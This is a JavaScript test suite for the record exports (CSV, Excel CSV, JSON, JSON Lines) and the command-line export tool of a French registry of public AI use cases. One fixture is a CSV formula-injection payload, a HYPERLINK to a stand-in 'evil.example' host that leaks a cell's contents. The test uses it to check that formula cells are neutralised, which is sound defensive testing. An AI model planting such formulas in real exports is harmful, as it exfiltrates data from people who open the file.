// exports.test.mjs — the record exports of issue 6 (api_export.c, export.c,
// cli_export.c): GET /api/v1/exports/usecases.{csv,-excel.csv,json,jsonl}
// and `iat export FORMAT`.
//
// What is proved
// - Every format parses back (CSV with a real RFC 4180 parser, the Excel
//   flavour with ';' gives the same cells once dates are written
//   AAAA-MM-JJ and decimals with a point; BOM and CRLF present), and holds
//   exactly the visible records: the API's total (published and retracted,
//   with their state), never a draft or a submitted record, whoever asks.
// - JSON records are the API's records (GET /api/v1/usecases/{id}), with
//   the absolute URL, reuses and owner.insee_code added; JSON Lines holds
//   the same records, one per line.
// - Public exports have no restricted column, field or item; an agent's
//   token gets them (the API's rule).
// - Formula cells are neutralised in both CSV flavours.
// - The CLI: same bytes as the server, --out, progress every 10,000 rows
//   on stderr and a summary line, bad arguments: one French line, exit 2.
import assert from 'node:assert/strict';
import fs from 'node:fs';
import path from 'node:path';
import { after, before, test } from 'node:test';

import {
  assertCsvInert,
  BORDEAUX_METROPOLE,
  LYON,
  createRecord,
  csvRows,
  iat,
  parseCsv,
  setupLibrary,
  startServer,
  stopServerClean,
  validRecord,
} from './lib.mjs';

const BASE = 'https://iat.exemple.fr';
const FORMULA = '=HYPERLINK("http://evil.example/?x="&A1;"clic")';
let env;
let srv;
const R = {};

before(async () => {
  env = setupLibrary();
  srv = await startServer(env.db, ['--base-url', BASE]);
  const cur = env.tokens.curator;
  R.pub = await createRecord(srv, cur, validRecord({
    title: FORMULA,
    summary: '+33 1 23 45 67 89 : le standard, ; et "guillemets"',
    state: 'published',
    contact: 'secret-contact@bordeaux-metropole.example.fr',
    funding: 'FONDS-RESERVE-XYZ',
    cost_one_off: 1234.5,
    latitude: 44.8378,
    longitude: -0.594,
    start_date: '2024-03-15',
    info_updated_on: '2024-05',
    decisions_per_year: 1200,
    individual_decisions: true,
    partners: ['@partenaire', 'Université | de Bordeaux'],
    ai_techniques: ['machine_learning', 'nlp'],
    suppliers: [{ name: 'Éditeur SA', siren: '552100554' }, { name: 'Sans SIREN' }],
    description: 'Ligne 1\nLigne 2, avec virgule',
    indicators: [
      { name: 'Délai public', unit: 'jours', type: 'impact', baseline: { value: 12.5, date: '2023-01-15' }, visibility: 'public' },
      { name: 'Indicateur confidentiel', unit: '€', baseline: { value: 1000, date: '2023-01-01' }, visibility: 'restricted' },
    ],
    reuse_kit: [
      { kind: 'code', title: 'Dépôt public', url: 'https://example.org/depot', visibility: 'public' },
      { kind: 'contract', title: 'Kit secret', reference: 'Marché 2024-017', visibility: 'restricted' },
    ],
  }));
  R.lyon = await createRecord(srv, cur, validRecord({ title: 'Service lyonnais exporté', owner: LYON.key, state: 'published' }));
  R.retracted = await createRecord(srv, cur, validRecord({ title: 'Fiche retirée exportée', state: 'published' }));
  const rt = await srv.request('POST', `/api/v1/usecases/${R.retracted.id}/retract`, { token: cur, json: { reason: 'Projet arrêté' } });
  assert.equal(rt.status, 200, rt.text);
  R.draft = await createRecord(srv, env.tokens.agentBdx, validRecord({ title: 'Brouillon jamais exporté' }));
  R.submitted = await createRecord(srv, env.tokens.agentBdx, validRecord({ title: 'Soumise jamais exportée', state: 'submitted' }));
  // a published reuse of pub by Lyon
  const ru = await srv.request('POST', `/api/v1/usecases/${R.pub.id}/reuses`, {
    token: cur, json: { owner: LYON.key, reuse_context: 'Reprise lyonnaise.', status: 'experiment', state: 'published' },
  });
  assert.equal(ru.status, 201, ru.text);
  R.reuse = ru.json.data;
});

after(async () => {
  if (srv) await stopServerClean(srv);
});

const FORMATS = {
  csv: 'usecases.csv', excel: 'usecases-excel.csv', json: 'usecases.json', jsonl: 'usecases.jsonl',
};

async function exportOf(fmt, token) {
  const r = await srv.request('GET', `/api/v1/exports/${FORMATS[fmt]}`, { token });
  assert.equal(r.status, 200, r.text.slice(0, 300));
  return r;
}

async function apiTotal() {
  const r = await srv.get('/api/v1/usecases?per_page=1');
  return r.json.meta.total;
}

const DATE_COLUMNS = new Set(['created_at', 'updated_at', 'published_at', 'start_date', 'info_updated_on']);
const NUMBER_COLUMNS = new Set(['latitude', 'longitude', 'cost_one_off', 'cost_yearly', 'staff_time']);

/** The cell of the CSV flavour as the Excel flavour writes it (column: its name). */
function asExcel(cell, column) {
  if (!DATE_COLUMNS.has(column) && !NUMBER_COLUMNS.has(column)) return cell;
  let m;
  if ((m = /^(\d{4})-(\d{2})-(\d{2})T(\d{2}:\d{2}:\d{2})Z$/.exec(cell))) return `${m[3]}/${m[2]}/${m[1]} ${m[4]}`;
  if ((m = /^(\d{4})-(\d{2})-(\d{2})$/.exec(cell))) return `${m[3]}/${m[2]}/${m[1]}`;
  if ((m = /^(\d{4})-(\d{2})$/.exec(cell))) return `${m[2]}/${m[1]}`;
  if (/^-?\d+\.\d+$/.test(cell)) return cell.replace('.', ',');
  return cell;
}

const SECRETS = ['secret-contact@', 'FONDS-RESERVE-XYZ', 'Indicateur confidentiel', 'Kit secret'];
const NEVER = ['Brouillon jamais exporté', 'Soumise jamais exportée'];

test('CSV: RFC 4180, one row per visible record, public columns only, stable ids, URLs, SIREN and INSEE code', async () => {
  const r = await exportOf('csv');
  assert.equal(r.headers.get('content-type'), 'text/csv; charset=utf-8');
  assert.match(r.headers.get('content-disposition'), /^attachment; filename="iat-fiches-\d{4}-\d{2}-\d{2}\.csv"$/);
  assert.equal(r.headers.get('access-control-allow-origin'), '*');
  assert.notEqual(r.text.charCodeAt(0), 0xfeff, 'no BOM in the RFC 4180 flavour');
  assert.ok(r.text.endsWith('\r\n'));
  assert.doesNotMatch(r.text.replace(/"[^"]*"/g, ''), /[^\r]\n/, 'every line ends with CRLF (line breaks only inside quoted cells)');
  const rows = assertCsvInert(r.text);
  const header = rows[0];
  for (const c of ['id', 'url', 'schema_version', 'state', 'owner_siren', 'owner_insee_code', 'impact_label', 'evidence_score', 'reuse_of', 'reuses', 'indicators_count', 'indicators', 'reuse_kit_count', 'reuse_kit'])
    assert.ok(header.includes(c), `column ${c}`);
  for (const c of ['contact', 'funding', 'budget_band', 'hosting', 'cost_one_off', 'algorithm_operations', 'data_access'])
    assert.ok(!header.includes(c), `no restricted column ${c} in the public export`);
  for (const row of rows) assert.equal(row.length, header.length, 'every row has every column');
  const recs = parseCsv(r.text);
  const total = await apiTotal();
  assert.equal(recs.length, total, 'the API total (published and retracted records)');
  for (const s of [...SECRETS, ...NEVER]) assert.ok(!r.text.includes(s), `${s} is not in the public export`);
  const ids = recs.map((x) => Number(x.id));
  assert.deepEqual(ids, [...ids].sort((a, b) => a - b), 'in id order');
  const pub = recs.find((x) => Number(x.id) === R.pub.id);
  assert.equal(pub.url, `${BASE}/fiches/${R.pub.id}-${R.pub.slug}`);
  assert.equal(pub.title, `'${FORMULA}`, 'a formula is neutralised');
  assert.equal(pub.summary, `'${'+33 1 23 45 67 89 : le standard, ; et "guillemets"'}`);
  assert.equal(pub.schema_version, '1.1');
  assert.equal(pub.state, 'published');
  assert.equal(pub.owner_id, BORDEAUX_METROPOLE.key);
  assert.equal(pub.owner_siren, BORDEAUX_METROPOLE.siren);
  assert.equal(pub.owner_insee_code, '', 'an EPCI has no INSEE code');
  assert.equal(pub.reuses, '1', 'its visible reuse');
  assert.equal(pub.reuse_of, '');
  assert.equal(pub.start_date, '2024-03-15');
  assert.equal(pub.latitude, '44.8378');
  assert.equal(pub.longitude, '-0.594');
  assert.equal(pub.decisions_per_year, '1200');
  assert.equal(pub.individual_decisions, 'true');
  assert.equal(pub.description, 'Ligne 1\nLigne 2, avec virgule');
  assert.equal(pub.partners, "'@partenaire | Université | de Bordeaux", 'lists joined by " | ", formula neutralised');
  assert.equal(pub.ai_techniques, 'machine_learning | nlp');
  assert.equal(pub.suppliers, 'Éditeur SA (552100554) | Sans SIREN');
  assert.equal(pub.indicators_count, '1', 'the public indicator only');
  assert.equal(JSON.parse(pub.indicators)[0].name, 'Délai public');
  assert.equal(pub.reuse_kit_count, '1');
  assert.equal(JSON.parse(pub.reuse_kit)[0].title, 'Dépôt public');
  assert.match(pub.created_at, /^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}Z$/);
  const lyon = recs.find((x) => Number(x.id) === R.lyon.id);
  assert.equal(lyon.owner_insee_code, LYON.insee);
  assert.equal(lyon.owner_siren, '216901231');
  const reuse = recs.find((x) => Number(x.id) === R.reuse.id);
  assert.equal(reuse.reuse_of, String(R.pub.id));
  const ret = recs.find((x) => Number(x.id) === R.retracted.id);
  assert.equal(ret.state, 'retracted');
  assert.equal(ret.retract_reason, 'Projet arrêté');
});

test('Excel CSV: ";" separator, BOM, CRLF, dates JJ/MM/AAAA, decimal comma; the same cells as the CSV otherwise', async () => {
  const csv = csvRows((await exportOf('csv')).text);
  const r = await exportOf('excel');
  assert.equal(r.headers.get('content-type'), 'text/csv; charset=utf-8');
  assert.match(r.headers.get('content-disposition'), /filename="iat-fiches-excel-\d{4}-\d{2}-\d{2}\.csv"/);
  assert.equal(r.text.charCodeAt(0), 0xfeff, 'a UTF-8 BOM');
  assert.match(r.text, /^\ufeffid;url;schema_version;/);
  assert.doesNotMatch(r.text.replace(/"[^"]*"/g, ''), /[^\r]\n/, 'CRLF line ends');
  const xl = assertCsvInert(r.text, ';');
  assert.equal(xl.length, csv.length);
  for (let i = 0; i < csv.length; i++) {
    assert.equal(xl[i].length, csv[i].length, `row ${i}`);
    for (let j = 0; j < csv[i].length; j++) assert.equal(xl[i][j], asExcel(csv[i][j], csv[0][j]), `row ${i}, column ${csv[0][j]}`);
  }
  const recs = parseCsv(r.text, ';');
  const pub = recs.find((x) => Number(x.id) === R.pub.id);
  assert.equal(pub.start_date, '15/03/2024');
  assert.equal(pub.info_updated_on, '05/2024');
  assert.match(pub.created_at, /^\d{2}\/\d{2}\/\d{4} \d{2}:\d{2}:\d{2}$/);
  assert.equal(pub.latitude, '44,8378');
  assert.equal(pub.longitude, '-0,594');
  assert.equal(pub.title, `'${FORMULA}`);
});

test('JSON: an array of the API records (plus reuses, owner.insee_code, absolute URL); JSON Lines: the same, one per line', async () => {
  const r = await exportOf('json');
  assert.equal(r.headers.get('content-type'), 'application/json; charset=utf-8');
  assert.match(r.headers.get('content-disposition'), /filename="iat-fiches-\d{4}-\d{2}-\d{2}\.json"/);
  const arr = JSON.parse(r.text);
  assert.ok(Array.isArray(arr));
  assert.equal(arr.length, await apiTotal());
  for (const s of [...SECRETS, ...NEVER]) assert.ok(!r.text.includes(s), `${s} is not in the public JSON`);
  for (const rec of [R.pub, R.lyon, R.retracted, R.reuse]) {
    const got = structuredClone(arr.find((x) => x.id === rec.id));
    assert.ok(got, `record ${rec.id}`);
    const api = (await srv.get(`/api/v1/usecases/${rec.id}`)).json.data;
    assert.equal(got.url, BASE + api.url);
    assert.equal(typeof got.reuses, 'number');
    assert.equal(got.owner.insee_code, rec === R.lyon || rec === R.reuse ? LYON.insee : null, 'the INSEE code of a commune, null for an EPCI');
    assert.equal(got.schema_version, '1.1');
    got.url = api.url;
    if (got.reuse_of) {
      assert.equal(got.reuse_of.url, `${BASE}/fiches/${R.pub.id}`);
      got.reuse_of.url = api.reuse_of.url;
    }
    delete got.reuses;
    delete got.owner.insee_code;
    assert.deepEqual(got, api, `record ${rec.id} as the API renders it`);
  }
  assert.equal(arr.find((x) => x.id === R.pub.id).reuses, 1);
  const l = await exportOf('jsonl');
  assert.equal(l.headers.get('content-type'), 'application/x-ndjson; charset=utf-8');
  assert.match(l.headers.get('content-disposition'), /filename="iat-fiches-\d{4}-\d{2}-\d{2}\.jsonl"/);
  assert.ok(l.text.endsWith('\n'));
  const lines = l.text.split('\n').slice(0, -1);
  assert.deepEqual(lines.map((x) => JSON.parse(x)), arr, 'the same records, one per line');
});

test('restricted: an agent token gets the restricted fields and items (the API rule); drafts never, whoever asks', async () => {
  for (const [who, token] of [['agent', env.tokens.agentBdx], ['agent of another organisation', env.tokens.agentLyon], ['curator', env.tokens.curator]]) {
    const c = await exportOf('csv', token);
    assert.match(c.headers.get('content-disposition'), /filename="iat-fiches-agents-/, who);
    const header = csvRows(c.text)[0];
    for (const col of ['contact', 'funding', 'cost_one_off']) assert.ok(header.includes(col), `${who}: column ${col}`);
    for (const s of SECRETS) assert.ok(c.text.includes(s), `${who}: ${s} in the CSV`);
    for (const s of NEVER) assert.ok(!c.text.includes(s), `${who}: ${s} never exported`);
    const pub = parseCsv(c.text).find((x) => Number(x.id) === R.pub.id);
    assert.equal(pub.cost_one_off, '1234.5');
    assert.equal(pub.indicators_count, '2');
    assert.equal(pub.reuse_kit_count, '2');
    const xl = parseCsv((await exportOf('excel', token)).text, ';').find((x) => Number(x.id) === R.pub.id);
    assert.equal(xl.cost_one_off, '1234,5');
    const j = await exportOf('json', token);
    const rec = JSON.parse(j.text).find((x) => x.id === R.pub.id);
    const api = (await srv.get(`/api/v1/usecases/${R.pub.id}`, { token })).json.data;
    assert.equal(rec.contact, api.contact);
    assert.deepEqual(rec.indicators, api.indicators);
    assert.equal(rec.indicators.length, 2);
    for (const s of NEVER) assert.ok(!j.text.includes(s), `${who}: ${s} never in JSON`);
    const jl = await exportOf('jsonl', token);
    for (const s of SECRETS) assert.ok(jl.text.includes(s), `${who}: ${s} in JSON Lines`);
  }
  // a citizen's token: public export
  const c = await exportOf('csv', env.tokens.citizen);
  for (const s of SECRETS) assert.ok(!c.text.includes(s), `citizen: no ${s}`);
  // an invalid token: 401 like the whole API
  const bad = await srv.request('GET', '/api/v1/exports/usecases.csv', { token: 'nope' });
  assert.equal(bad.status, 401);
});

test('filters: theme, status, state, owner (one value each, checked like the list); bad values are a 400 before any byte', async () => {
  const all = parseCsv((await exportOf('csv')).text);
  const get = async (q, token) => {
    const r = await srv.request('GET', `/api/v1/exports/usecases.csv?${q}`, { token });
    assert.equal(r.status, 200, `${q}: ${r.text.slice(0, 200)}`);
    return parseCsv(r.text);
  };
  const retracted = await get('state=retracted');
  assert.deepEqual(retracted.map((x) => Number(x.id)), [R.retracted.id]);
  const lyon = await get(`owner=${LYON.key}`);
  assert.deepEqual(lyon.map((x) => Number(x.id)), [R.lyon.id, R.reuse.id]);
  assert.deepEqual((await get(`owner=${LYON.insee}&state=published`)).map((x) => Number(x.id)), [R.lyon.id, R.reuse.id], 'an INSEE code names the owner too');
  const theme = all.find((x) => x.theme !== 'ecological_transition').theme;
  const some = await get(`theme=${theme}&status=experiment`);
  assert.deepEqual(some.map((x) => x.id), all.filter((x) => x.theme === theme && x.status === 'experiment').map((x) => x.id));
  assert.ok(some.length > 0 && some.length < all.length);
  // JSON Lines with a filter and a token: the same records, restricted fields in
  const jl = await srv.request('GET', `/api/v1/exports/usecases.jsonl?owner=${BORDEAUX_METROPOLE.key}`, { token: env.tokens.agentBdx });
  const recs = jl.text.split('\n').slice(0, -1).map((x) => JSON.parse(x));
  assert.ok(recs.length > 0 && recs.every((x) => x.owner.id === BORDEAUX_METROPOLE.key));
  assert.ok(recs.some((x) => x.contact === 'secret-contact@bordeaux-metropole.example.fr'));
  assert.ok(!recs.some((x) => x.title === 'Brouillon jamais exporté'), 'a filter on the owner never brings drafts');
  for (const [q, field] of [['theme=x', 'theme'], ['status=nope', 'status'], ['state=draft', 'state'], ['owner=commune-00000', 'owner'],
    ['state=published&state=retracted', 'state'], ['per_page=5', 'per_page']]) {
    const r = await srv.get(`/api/v1/exports/usecases.json?${q}`);
    assert.equal(r.status, 400, q);
    assert.equal(r.json.error.field, field, q);
  }
});

test('CLI: iat export writes what the server sends, --out, --restricted, bad arguments exit 2 with one French line', async () => {
  const out = path.join(env.dir, 'export.csv');
  const r = iat(['export', 'csv', '--db', env.db, '--out', out, '--base-url', BASE]);
  assert.equal(r.code, 0, r.stderr);
  assert.equal(r.stdout, '');
  assert.equal(fs.readFileSync(out, 'utf8'), (await exportOf('csv')).text, 'the same bytes as GET /api/v1/exports/usecases.csv');
  assert.match(r.stderr, /^export csv : \d+ fiches \(champs publics\) → .*export\.csv \(\d+ octets, [\d.]+ s\)\n$/);
  assert.deepEqual(fs.readdirSync(env.dir).filter((f) => f.includes('.tmp-')), [], 'no temporary file left');
  for (const fmt of ['excel', 'json', 'jsonl']) {
    const x = iat(['export', fmt, '--db', env.db, '--base-url', BASE]);
    assert.equal(x.code, 0, x.stderr);
    assert.equal(x.stdout, (await exportOf(fmt)).text, `${fmt} on stdout`);
  }
  const rs = iat(['export', 'json', '--db', env.db, '--restricted', '--base-url', BASE]);
  assert.equal(rs.stdout, (await exportOf('json', env.tokens.agentBdx)).text, '--restricted: the agents\' export');
  assert.match(rs.stderr, /avec les champs réservés/);
  const pathsOnly = JSON.parse(iat(['export', 'json', '--db', env.db]).stdout);
  assert.match(pathsOnly[0].url, /^\/fiches\/\d+-/, 'without --base-url, URLs are paths');
  for (const args of [['export'], ['export', 'xml'], ['export', 'csv', 'json'], ['export', 'csv', '--bogus'], ['export', 'csv', '--out'], ['export', 'csv', '--base-url', 'ftp://x']]) {
    const b = iat(args);
    assert.equal(b.code, 2, `${args.join(' ')}: exit 2 (${b.stderr})`);
    assert.equal(b.stderr.trim().split('\n').length, 1, `${args.join(' ')}: one line`);
    assert.match(b.stderr, /^iat: /);
    assert.equal(b.stdout, '');
  }
  assert.match(iat(['export', 'xml', '--db', env.db]).stderr, /format inconnu « xml »/);
  // an unwritable destination: exit 1, nothing left behind
  const bad = iat(['export', 'csv', '--db', env.db, '--out', path.join(env.dir, 'no-such-dir', 'x.csv')]);
  assert.equal(bad.code, 1);
  assert.match(bad.stderr, /impossible d'écrire/);
  const help = iat(['export', '--help']);
  assert.equal(help.code, 0);
  assert.match(help.stdout, /^usage : iat export csv\|excel\|json\|jsonl/);
});

test('CLI: progress every 10,000 rows on stderr, and a summary line (10,050 synthetic records)', () => {
  const big = setupLibrary({ csv: null, accounts: {} });
  const s = iat(['synth', '--db', big.db, '--records', '10050'], { timeout: 600000 });
  assert.equal(s.code, 0, s.stderr);
  const out = path.join(big.dir, 'big.jsonl');
  const r = iat(['export', 'jsonl', '--db', big.db, '--out', out], { timeout: 600000 });
  assert.equal(r.code, 0, r.stderr);
  const lines = r.stderr.trim().split('\n');
  assert.equal(lines.length, 2, r.stderr);
  assert.equal(lines[0], 'export : 10000 / 10050 fiches');
  assert.match(lines[1], /^export jsonl : 10050 fiches \(champs publics\) → /);
  const recs = fs.readFileSync(out, 'utf8').split('\n').slice(0, -1);
  assert.equal(recs.length, 10050);
  assert.equal(new Set(recs.map((x) => JSON.parse(x).id)).size, 10050);
});
